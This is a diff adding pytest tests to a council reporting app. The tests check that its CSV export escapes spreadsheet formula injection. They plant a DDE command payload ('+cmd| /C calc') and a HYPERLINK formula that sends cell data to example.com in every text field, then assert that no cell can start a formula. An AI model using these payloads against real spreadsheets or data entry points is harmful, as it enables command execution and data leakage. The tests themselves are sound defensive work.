@@ -3,10 +3,12 @@ back with the standard library and hold every seed figure as a plain number."""
 
 import csv
 import io
+import re
 from dataclasses import replace
 
 import pytest
 
+from scrutineer.catalogue.models import Committee, Indicator, Priority, ServiceTeam, Theme
 from scrutineer.collection.models import Value
 from scrutineer.engine import Period
 from scrutineer.reports.builder import build_document
@@ -202,3 +204,49 @@ def test_a_report_without_a_meeting_date_says_only_the_committee(seed_council):
     meta, _, rows = split(render_csv(replace(seed_doc(), meeting_date=None)))
     assert "# Committee: Housing and Community Overview & Scrutiny" in meta
     assert len(rows) == 15
+
+
+DDE = "+cmd|' /C calc'!A0"
+
+
+def test_formula_injection_in_the_display_column_is_escaped(seed_council):
+    # A negative figure puts the unit's "+cmd|…" after "-5 ": the cell "-5 +cmd|' /C calc'!A0"
+    # is the DDE formula =-5+cmd|… to a spreadsheet, so the display is guarded as text.
+    Indicator.objects.filter(code="CSU12").update(unit=DDE)
+    Value.objects.filter(indicator__code="CSU12").update(value=-5)
+    _, _, rows = split(render_csv(seed_doc()))
+    csu12 = by_key(rows)[("CSU12", "current")]
+    assert csu12["display"] == f"'-5 {DDE}"
+    assert csu12["unit"] == f"'{DDE}"
+    assert csu12["value"] == "-5"  # a plain number stays a number
+    assert csu12["target_display"] == f"Target: 450 {DDE}"  # starts with text: no formula
+
+
+def hostile(text):
+    return f'=HYPERLINK("http://example.com/?"&A1,"{text}"),{DDE}'
+
+
+def test_no_cell_of_the_report_csv_can_start_a_formula(seed_council, settings):
+    """Every piece of text that reaches the CSV, typed anywhere, read back cell by cell the
+    way a spreadsheet splits the file (the metadata lines too, at their commas)."""
+    settings.SCRUTINEER_COUNCIL_NAME = hostile("council")
+    for model in (Committee, Indicator, Theme, Priority, ServiceTeam):
+        for pk in model.objects.values_list("pk", flat=True):  # names are unique
+            model.objects.filter(pk=pk).update(name=hostile(f"{model.__name__} {pk}"))
+    Indicator.objects.update(unit=DDE)
+    Value.objects.update(approver_comment=hostile("comment"), no_data_reason=" " + hostile("reason"))
+    Value.objects.filter(value__isnull=False).update(value=-5)
+    Report.objects.update(title=hostile("title"))
+    doc = replace(seed_doc(), restatements=(f"CSU10 Jun-2020: restated from -5 {DDE} to -6 {DDE}.",))
+    text = render_csv(doc)
+    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
+    assert len(cells) > 15 * len(HEADER)
+    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
+    unsafe = [
+        cell
+        for cell in cells
+        if cell.lstrip().startswith(starts) and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?%?", cell)
+    ]
+    assert unsafe == []
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert "-5" in cells  # numbers are left as numbers
